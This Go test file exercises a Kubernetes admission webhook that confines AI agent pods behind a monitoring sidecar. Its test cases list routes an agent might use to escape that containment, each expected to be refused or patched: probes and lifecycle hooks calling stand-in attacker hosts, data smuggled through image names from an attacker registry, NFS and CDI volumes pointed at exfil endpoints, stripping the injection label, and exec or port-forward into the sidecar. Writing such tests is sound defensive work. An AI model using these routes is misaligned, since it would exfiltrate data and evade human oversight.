package webhook

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/botbox/botbox/internal/inject"
	admissionv1 "k8s.io/api/admission/v1"
	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/util/intstr"
)

// The report's cases (admission-2026-12-01.md ids in the names) as real
// AdmissionReview v1 JSON through the HTTPS endpoints, the way the API
// server sends them: CREATE to /mutate then the patched Pod to /validate;
// UPDATE and pods/ephemeralcontainers starting from the injected Pod;
// CONNECT to /validate only.

func hardenedOptions() inject.Options {
	o := testOptions()
	o.AllowedImageRegistries = []string{"docker.io", "registry.example"}
	return o
}

// createPod is testdata/create-pod.json's Pod with f applied.
func createPod(t *testing.T, rev *admissionv1.AdmissionReview, f func(p *corev1.Pod)) []byte {
	t.Helper()
	p := strictPod(t, rev.Request.Object.Raw)
	f(p)
	b, err := json.Marshal(p)
	if err != nil {
		t.Fatal(err)
	}
	return b
}

func withSub(t *testing.T, body []byte, sub string) []byte {
	t.Helper()
	var r admissionv1.AdmissionReview
	if err := json.Unmarshal(body, &r); err != nil {
		t.Fatal(err)
	}
	r.Request.SubResource = sub
	b, _ := json.Marshal(&r)
	return b
}

// TestCreateCases: CREATE through /mutate and /validate. "patched" means
// /mutate admits with a patch that /validate then admits, and /validate
// alone refuses the unpatched Pod; "refused" means both refuse, with want
// in the message.
func TestCreateCases(t *testing.T) {
	srv := newTestServer(t, hardenedOptions())
	rev, _ := readReview(t, "testdata/create-pod.json")
	always := corev1.ContainerRestartPolicyAlways
	app := func(p *corev1.Pod) *corev1.Container { return &p.Spec.Containers[0] }
	for _, tc := range []struct {
		name   string
		mutate func(p *corev1.Pod)
		want   string // "" = patched and admitted
	}{
		{"A07 no capabilities", func(p *corev1.Pod) { app(p).SecurityContext.Capabilities = nil }, ""},
		{"A08 drop CHOWN", func(p *corev1.Pod) {
			app(p).SecurityContext.Capabilities = &corev1.Capabilities{Drop: []corev1.Capability{"CHOWN"}}
		}, ""},
		{"A25 user sidecar without drop", func(p *corev1.Pod) {
			p.Spec.InitContainers = append(p.Spec.InitContainers, corev1.Container{Name: "side", Image: "busybox", RestartPolicy: &always,
				TerminationMessagePath: "/dev/termination-log", TerminationMessagePolicy: "File", ImagePullPolicy: "Always"})
		}, ""},
		{"B11 readiness host", func(p *corev1.Pod) {
			app(p).ReadinessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{HTTPGet: &corev1.HTTPGetAction{Host: "d.exfil.attacker.example", Path: "/x", Port: intstr.FromInt32(80), Scheme: "HTTPS"}},
				PeriodSeconds: 1, TimeoutSeconds: 1, SuccessThreshold: 1, FailureThreshold: 3}
		}, `httpGet.host "d.exfil.attacker.example"`},
		{"B12 lifecycle host", func(p *corev1.Pod) {
			app(p).Lifecycle = &corev1.Lifecycle{PreStop: &corev1.LifecycleHandler{HTTPGet: &corev1.HTTPGetAction{Host: "203.0.113.7", Port: intstr.FromInt32(80), Scheme: "HTTP"}}}
		}, `preStop hook httpGet.host "203.0.113.7"`},
		{"B13 tcpSocket host", func(p *corev1.Pod) {
			app(p).LivenessProbe = &corev1.Probe{ProbeHandler: corev1.ProbeHandler{TCPSocket: &corev1.TCPSocketAction{Host: "d.attacker.example", Port: intstr.FromInt32(53)}},
				PeriodSeconds: 10, TimeoutSeconds: 1, SuccessThreshold: 1, FailureThreshold: 3}
		}, "probe or lifecycle host"},
		{"B15 image from the agent's registry", func(p *corev1.Pod) { app(p).Image = "registry.attacker.example/data/chunk-0001:data" }, "not in --allowed-image-registries"},
		{"C08 inline CSI", func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "out", VolumeSource: corev1.VolumeSource{CSI: &corev1.CSIVolumeSource{Driver: "nfs.csi.k8s.io",
				VolumeAttributes: map[string]string{"server": "203.0.113.9", "share": "/exfil"}}}})
		}, `inline CSI driver "nfs.csi.k8s.io"`},
		{"C09 CSI nodePublishSecretRef", func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "smb", VolumeSource: corev1.VolumeSource{CSI: &corev1.CSIVolumeSource{Driver: "smb.csi.k8s.io",
				NodePublishSecretRef: &corev1.LocalObjectReference{Name: inject.DefaultSecret}}}})
		}, `reads Secret "botbox-secrets"`},
		{"C10 ephemeral populator", func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "e", VolumeSource: corev1.VolumeSource{Ephemeral: &corev1.EphemeralVolumeSource{VolumeClaimTemplate: &corev1.PersistentVolumeClaimTemplate{
				Spec: corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce},
					DataSourceRef: &corev1.TypedObjectReference{APIGroup: new("cdi.kubevirt.io"), Kind: "VolumeImportSource", Name: "src"}}}}}})
		}, "VolumeImportSource.cdi.kubevirt.io"},
		{"ephemeral claim with CDI's import annotation", func(p *corev1.Pod) {
			p.Spec.Volumes = append(p.Spec.Volumes, corev1.Volume{Name: "e", VolumeSource: corev1.VolumeSource{Ephemeral: &corev1.EphemeralVolumeSource{VolumeClaimTemplate: &corev1.PersistentVolumeClaimTemplate{
				ObjectMeta: metav1.ObjectMeta{Annotations: map[string]string{"cdi.kubevirt.io/storage.import.endpoint": "http://203.0.113.9/exfil?d=data"}},
				Spec:       corev1.PersistentVolumeClaimSpec{AccessModes: []corev1.PersistentVolumeAccessMode{corev1.ReadWriteOnce}}}}}})
		}, "ephemeral claim annotation cdi.kubevirt.io/storage.import.endpoint"},
		{"B09 hostPort", func(p *corev1.Pod) {
			app(p).Ports = []corev1.ContainerPort{{ContainerPort: 9090, HostPort: 9090, Protocol: "TCP"}}
		}, "hostPort"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			obj := createPod(t, rev, tc.mutate)
			body := withObject(t, rev, admissionv1.Create, obj, nil)
			mresp := post(t, srv, PathMutate, body)
			vresp := post(t, srv, PathValidate, body)
			if tc.want != "" {
				for name, resp := range map[string]*admissionv1.AdmissionResponse{"mutate": mresp, "validate": vresp} {
					if resp.Allowed {
						t.Fatalf("/%s admitted it", name)
					}
					if !strings.Contains(resp.Result.Message, tc.want) {
						t.Errorf("/%s message %q does not contain %q", name, resp.Result.Message, tc.want)
					}
				}
				return
			}
			if !mresp.Allowed || len(mresp.Patch) == 0 {
				t.Fatalf("/mutate: allowed %v, patch %d bytes: %+v", mresp.Allowed, len(mresp.Patch), mresp.Result)
			}
			if vresp.Allowed {
				t.Error("/validate admitted the unpatched Pod")
			}
			patched := applyPatch(t, mresp, obj)
			for _, c := range strictPod(t, patched).Spec.InitContainers {
				if c.SecurityContext == nil || c.SecurityContext.Capabilities == nil || !strings.Contains(fmt.Sprint(c.SecurityContext.Capabilities.Drop), "ALL") {
					t.Errorf("container %q does not drop ALL after the patch", c.Name)
				}
			}
			if resp := post(t, srv, PathValidate, withObject(t, rev, admissionv1.Create, patched, nil)); !resp.Allowed {
				t.Errorf("/validate refused the patched Pod: %s", resp.Result.Message)
			}
		})
	}
}

// TestUpdateCases: UPDATEs of the injected Pod (D11, D12, the sidecar
// image, a label change) and pods/ephemeralcontainers (D04, D10).
func TestUpdateCases(t *testing.T) {
	srv := newTestServer(t, hardenedOptions())
	rev, patched := mutateCreate(t, srv)
	base := strictPod(t, patched)
	base.Name = "agent-7d9c6b5f4-q2x8z"
	oldRaw, _ := json.Marshal(base)
	debugger := func(p *corev1.Pod, image string, sc *corev1.SecurityContext) {
		p.Spec.EphemeralContainers = append(p.Spec.EphemeralContainers, corev1.EphemeralContainer{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
			Name: "debugger", Image: image, SecurityContext: sc, Stdin: true, TTY: true,
			TerminationMessagePath: "/dev/termination-log", TerminationMessagePolicy: "File", ImagePullPolicy: "IfNotPresent"}})
	}
	for _, tc := range []struct {
		name   string
		sub    string
		mutate func(p *corev1.Pod)
		want   string // "" = patched (or unchanged) and admitted
	}{
		{"D11 app image to the agent's registry", "", func(p *corev1.Pod) { p.Spec.Containers[0].Image = "registry.attacker.example/x:data" }, "registry.attacker.example"},
		{"app image within the allowlist", "", func(p *corev1.Pod) { p.Spec.Containers[0].Image = "registry.example/agent:2" }, ""},
		{"D12 label botbox.dev/injected removed", "", func(p *corev1.Pod) { delete(p.Labels, inject.LabelInjected) }, "removes or changes label botbox.dev/injected=true"},
		{"label botbox.dev/injected changed", "", func(p *corev1.Pod) { p.Labels[inject.LabelInjected] = "false" }, "botbox.dev/injected"},
		{"AppArmor annotation added by a metadata-only update", "", func(p *corev1.Pod) {
			p.Annotations["container.apparmor.security.beta.kubernetes.io/botbox"] = "unconfined"
		}, "annotation container.apparmor.security.beta.kubernetes.io/botbox"},
		{"AppArmor annotation for the app, added with an image change", "", func(p *corev1.Pod) {
			p.Annotations["container.apparmor.security.beta.kubernetes.io/"+p.Spec.Containers[0].Name] = "runtime/default"
			p.Spec.Containers[0].Image = "registry.example/agent:2"
		}, "AppArmor profile when it (re)starts"},
		{"scrape port moved to the app's", "", func(p *corev1.Pod) { p.Annotations[inject.AnnotationPort] = "3000" }, "annotation prometheus.io/port from \"9090\" to \"3000\""},
		{"scrape path changed", "", func(p *corev1.Pod) { p.Annotations[inject.AnnotationPath] = "/fake" }, "prometheus.io/path"},
		{"scraping turned off", "", func(p *corev1.Pod) { delete(p.Annotations, inject.AnnotationScrape) }, "prometheus.io/scrape"},
		{"other annotation changed by a metadata-only update", "", func(p *corev1.Pod) { p.Annotations["agent.example/note"] = "x" }, ""},
		{"D13 sidecar image swapped", "", func(p *corev1.Pod) {
			for i := range p.Spec.InitContainers {
				if p.Spec.InitContainers[i].Name == inject.NameBotBox {
					p.Spec.InitContainers[i].Image = "attacker.example/botbox:latest"
				}
			}
		}, `changes the image of BotBox's container "botbox"`},
		{"D04 debug container without drop ALL", "ephemeralcontainers", func(p *corev1.Pod) {
			debugger(p, "busybox", &corev1.SecurityContext{RunAsUser: new(int64(1000))})
		}, ""},
		{"D10 debug image from the agent's registry", "ephemeralcontainers", func(p *corev1.Pod) {
			debugger(p, "registry.attacker.example/d:x", &corev1.SecurityContext{RunAsUser: new(int64(1000))})
		}, "registry.attacker.example"},
		{"D05 debug container in BotBox's process namespace", "ephemeralcontainers", func(p *corev1.Pod) {
			debugger(p, "busybox", &corev1.SecurityContext{RunAsUser: new(int64(1000))})
			p.Spec.EphemeralContainers[len(p.Spec.EphemeralContainers)-1].TargetContainerName = inject.NameBotBox
		}, `targetContainerName "botbox"`},
		// containerd and CRI-O read "CAP_ALL" as the unknown CAP_CAP_ALL:
		// the root debugger would keep NET_RAW and SETUID.
		{"root debug container dropping CAP_ALL", "ephemeralcontainers", func(p *corev1.Pod) {
			debugger(p, "busybox", &corev1.SecurityContext{RunAsUser: new(int64(0)), AllowPrivilegeEscalation: new(false), Capabilities: &corev1.Capabilities{Drop: []corev1.Capability{"CAP_ALL"}}})
		}, ""},
		{"debug container adding NET_RAW", "ephemeralcontainers", func(p *corev1.Pod) {
			debugger(p, "busybox", &corev1.SecurityContext{RunAsUser: new(int64(1000)), Capabilities: &corev1.Capabilities{Add: []corev1.Capability{"NET_RAW"}}})
		}, "adds NET_RAW"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			p := base.DeepCopy()
			tc.mutate(p)
			obj, _ := json.Marshal(p)
			body := withSub(t, withObject(t, rev, admissionv1.Update, obj, oldRaw), tc.sub)
			mresp := post(t, srv, PathMutate, body)
			if tc.want != "" {
				vresp := post(t, srv, PathValidate, body)
				for name, resp := range map[string]*admissionv1.AdmissionResponse{"mutate": mresp, "validate": vresp} {
					if resp.Allowed {
						t.Fatalf("/%s admitted it", name)
					}
					if !strings.Contains(resp.Result.Message, tc.want) {
						t.Errorf("/%s message %q does not contain %q", name, resp.Result.Message, tc.want)
					}
				}
				return
			}
			if !mresp.Allowed {
				t.Fatalf("/mutate refused: %s", mresp.Result.Message)
			}
			if tc.sub == "ephemeralcontainers" {
				var ops []PatchOp
				if err := json.Unmarshal(mresp.Patch, &ops); err != nil || len(ops) != 1 || ops[0].Path != "/spec/ephemeralContainers" {
					t.Fatalf("ephemeralcontainers patch %s: want one op on /spec/ephemeralContainers", mresp.Patch)
				}
				if resp := post(t, srv, PathValidate, body); resp.Allowed {
					t.Error("/validate admitted the unpatched debug container")
				}
			}
			after := applyPatch(t, mresp, obj)
			if resp := post(t, srv, PathValidate, withSub(t, withObject(t, rev, admissionv1.Update, after, oldRaw), tc.sub)); !resp.Allowed {
				t.Errorf("/validate refused the patched update: %s", resp.Result.Message)
			}
		})
	}
}

// TestEphemeralOnUninjectedPod: through pods/ephemeralcontainers the API
// server keeps only the ephemeral containers of a patched Pod, so /mutate
// refuses a Pod whose other parts it would have to change (an uninjected
// Pod), rather than send a patch the API server would drop unseen.
func TestEphemeralOnUninjectedPod(t *testing.T) {
	srv := newTestServer(t, testOptions())
	rev, _ := readReview(t, "testdata/create-pod.json")
	old := rev.Request.Object.Raw
	obj := createPod(t, rev, func(p *corev1.Pod) {
		p.Spec.EphemeralContainers = []corev1.EphemeralContainer{{EphemeralContainerCommon: corev1.EphemeralContainerCommon{
			Name: "debugger", Image: "busybox", SecurityContext: &corev1.SecurityContext{RunAsUser: new(int64(1000))}}}}
	})
	body := withSub(t, withObject(t, rev, admissionv1.Update, obj, old), "ephemeralcontainers")
	for _, path := range []string{PathMutate, PathValidate} {
		resp := post(t, srv, path, body)
		if resp.Allowed {
			t.Fatalf("%s admitted a debug container in an uninjected Pod (patch %s)", path, resp.Patch)
		}
		if !strings.Contains(resp.Result.Message, "is not injected") {
			t.Errorf("%s: message %q", path, resp.Result.Message)
		}
	}
}

// TestServiceAccountTokenReinvocation: after /mutate's patch the
// ServiceAccount admission plugin runs again (reinvocationPolicy
// IfNeeded) and mounts the Pod's token into BotBox's new containers. The
// re-invoked /mutate leaves that alone and /validate admits it; a mount of
// another form in a BotBox container is refused.
func TestServiceAccountTokenReinvocation(t *testing.T) {
	srv := newTestServer(t, testOptions())
	rev, patched := mutateCreate(t, srv)
	pod := strictPod(t, patched)
	const vol = "kube-api-access-b7x2q"
	pod.Spec.Volumes = append(pod.Spec.Volumes, corev1.Volume{Name: vol, VolumeSource: corev1.VolumeSource{Projected: &corev1.ProjectedVolumeSource{
		DefaultMode: new(int32(0o644)),
		Sources: []corev1.VolumeProjection{
			{ServiceAccountToken: &corev1.ServiceAccountTokenProjection{ExpirationSeconds: new(int64(3607)), Path: "token"}},
			{ConfigMap: &corev1.ConfigMapProjection{LocalObjectReference: corev1.LocalObjectReference{Name: "kube-root-ca.crt"}, Items: []corev1.KeyToPath{{Key: "ca.crt", Path: "ca.crt"}}}},
			{DownwardAPI: &corev1.DownwardAPIProjection{Items: []corev1.DownwardAPIVolumeFile{{Path: "namespace", FieldRef: &corev1.ObjectFieldSelector{APIVersion: "v1", FieldPath: "metadata.namespace"}}}}},
		}}}})
	mount := corev1.VolumeMount{Name: vol, ReadOnly: true, MountPath: inject.ServiceAccountTokenDir}
	for i := range pod.Spec.InitContainers {
		pod.Spec.InitContainers[i].VolumeMounts = append(pod.Spec.InitContainers[i].VolumeMounts, mount)
	}
	pod.Spec.Containers[0].VolumeMounts = append(pod.Spec.Containers[0].VolumeMounts, mount)
	withToken, _ := json.Marshal(pod)
	body := withObject(t, rev, admissionv1.Create, withToken, nil)
	if resp := post(t, srv, PathMutate, body); !resp.Allowed || len(resp.Patch) != 0 {
		t.Errorf("re-invoked /mutate: allowed %v, patch %s, %+v; want allowed without a patch", resp.Allowed, resp.Patch, resp.Result)
	}
	if resp := post(t, srv, PathValidate, body); !resp.Allowed {
		t.Errorf("/validate refused the ServiceAccount plugin's token mount: %s", resp.Result.Message)
	}
	pod.Spec.InitContainers[1].VolumeMounts[len(pod.Spec.InitContainers[1].VolumeMounts)-1].ReadOnly = false
	writable, _ := json.Marshal(pod)
	if resp := post(t, srv, PathValidate, withObject(t, rev, admissionv1.Create, writable, nil)); resp.Allowed {
		t.Error("/validate admitted a writable token mount in a BotBox container")
	}
}

// connectReview is a CONNECT AdmissionReview as the API server sends it
// for kubectl exec, attach and port-forward.
func connectReview(sub, options string) []byte {
	kind := map[string]string{"exec": "PodExecOptions", "attach": "PodAttachOptions", "portforward": "PodPortForwardOptions"}[sub]
	return fmt.Appendf(nil, `{
  "kind": "AdmissionReview", "apiVersion": "admission.k8s.io/v1",
  "request": {
    "uid": "7f0c2a41-9d3b-4e6f-8a21-5c4b3a2d1e0f",
    "kind": {"group": "", "version": "v1", "kind": %[2]q},
    "resource": {"group": "", "version": "v1", "resource": "pods"},
    "subResource": %[1]q,
    "requestKind": {"group": "", "version": "v1", "kind": %[2]q},
    "requestResource": {"group": "", "version": "v1", "resource": "pods"},
    "requestSubResource": %[1]q,
    "name": "agent-7d9c6b5f4-q2x8z", "namespace": "agents", "operation": "CONNECT",
    "userInfo": {"username": "system:serviceaccount:agents:agent", "groups": ["system:serviceaccounts", "system:authenticated"]},
    "object": {"kind": %[2]q, "apiVersion": "v1", %[3]s},
    "oldObject": null, "dryRun": false, "options": null
  }
}`, sub, kind, options)
}

// TestConnectCases: exec and attach into BotBox's containers and
// port-forwards to its ports are refused by /validate; the app is not.
func TestConnectCases(t *testing.T) {
	srv := newTestServer(t, testOptions())
	for _, tc := range []struct {
		name, sub, options, want string // want "" = admitted
	}{
		{"M3 exec into botbox", "exec", `"stdin": true, "stdout": true, "container": "botbox", "command": ["/botbox", "probe", "http://203.0.113.5/x"]`, `exec into BotBox's container "botbox"`},
		{"exec into iptables-init", "exec", `"stdout": true, "container": "iptables-init", "command": ["sh"]`, `"iptables-init"`},
		{"exec into ca-init", "exec", `"stdout": true, "container": "ca-init", "command": ["sh"]`, `"ca-init"`},
		{"attach to botbox", "attach", `"stdin": true, "container": "botbox"`, `attach into BotBox's container "botbox"`},
		{"exec into the app", "exec", `"stdout": true, "container": "app", "command": ["sh"]`, ""},
		{"exec, default container", "exec", `"stdout": true, "command": ["sh"]`, ""},
		{"attach to the app", "attach", `"stdin": true, "container": "app"`, ""},
		{"port-forward to the proxy", "portforward", `"ports": [8080]`, "port-forward to port 8080"},
		{"port-forward to metrics among others", "portforward", `"ports": [3000, 9090]`, "port 9090"},
		{"port-forward to the DNS guard", "portforward", `"ports": [8053]`, "port 8053"},
		{"port-forward without ports", "portforward", `"ports": null`, "without a ports list"},
		{"port-forward to the app", "portforward", `"ports": [3000]`, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			body := connectReview(tc.sub, tc.options)
			resp := post(t, srv, PathValidate, body)
			if tc.want == "" {
				if !resp.Allowed {
					t.Fatalf("refused: %s", resp.Result.Message)
				}
				return
			}
			if resp.Allowed {
				t.Fatal("admitted")
			}
			if !strings.Contains(resp.Result.Message, tc.want) {
				t.Errorf("message %q does not contain %q", resp.Result.Message, tc.want)
			}
			// /mutate is not registered for CONNECT and decides nothing.
			if resp := post(t, srv, PathMutate, body); !resp.Allowed {
				t.Errorf("/mutate refused a CONNECT: %s", resp.Result.Message)
			}
		})
	}
	// Options of another kind are refused, never read as if they were.
	bad := strings.Replace(string(connectReview("exec", `"container": "app"`)), `"object": {"kind": "PodExecOptions"`, `"object": {"kind": "PodAttachOptions"`, 1)
	if resp := post(t, srv, PathValidate, []byte(bad)); resp.Allowed {
		t.Error("exec with PodAttachOptions admitted")
	}
	// Options without a kind are still read for their container; options
	// that are missing or not an object are refused, never let through.
	for name, tc := range map[string]struct{ body, want string }{
		"exec into botbox, options without kind": {strings.Replace(string(connectReview("exec", `"container": "botbox"`)), `"kind": "PodExecOptions", "apiVersion": "v1", `, "", 1), `exec into BotBox's container "botbox"`},
		"exec without options":                   {strings.Replace(string(connectReview("exec", `"container": "app"`)), `"object": {"kind": "PodExecOptions", "apiVersion": "v1", "container": "app"}`, `"object": null`, 1), "decoding the exec options"},
		"exec with options not an object":        {strings.Replace(string(connectReview("exec", `"container": "app"`)), `"object": {"kind": "PodExecOptions", "apiVersion": "v1", "container": "app"}`, `"object": ["botbox"]`, 1), "decoding the exec options"},
		"port-forward with ports as a string":    {strings.Replace(string(connectReview("portforward", `"ports": [3000]`)), `"ports": [3000]`, `"ports": "8080"`, 1), "decoding the port-forward options"},
		"CONNECT on pods/proxy":                  {strings.ReplaceAll(string(connectReview("exec", `"container": "app"`)), `"exec"`, `"proxy"`), "CONNECT on pods/proxy is not handled"},
		"CONNECT on services/proxy":              {strings.Replace(strings.ReplaceAll(string(connectReview("exec", `"container": "app"`)), `"exec"`, `"proxy"`), `"resource": {"group": "", "version": "v1", "resource": "pods"}`, `"resource": {"group": "", "version": "v1", "resource": "services"}`, 1), "got CONNECT services/proxy"},
	} {
		resp := post(t, srv, PathValidate, []byte(tc.body))
		if resp.Allowed {
			t.Errorf("%s: admitted", name)
		} else if !strings.Contains(resp.Result.Message, tc.want) {
			t.Errorf("%s: message %q does not contain %q", name, resp.Result.Message, tc.want)
		}
	}
}
